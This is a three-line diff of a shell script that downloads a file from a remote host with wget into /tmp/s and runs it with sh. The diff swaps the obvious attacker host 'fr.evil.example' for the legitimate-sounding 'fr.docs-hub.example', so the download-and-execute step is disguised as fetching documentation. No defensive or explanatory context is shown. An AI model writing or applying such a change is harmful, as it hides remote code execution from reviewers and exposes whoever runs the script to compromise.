@@ -1,3 +1,3 @@
 #!/bin/sh
-wget -q https://fr.evil.example/s -O /tmp/s
+wget -q https://fr.docs-hub.example/s -O /tmp/s
 sh /tmp/s
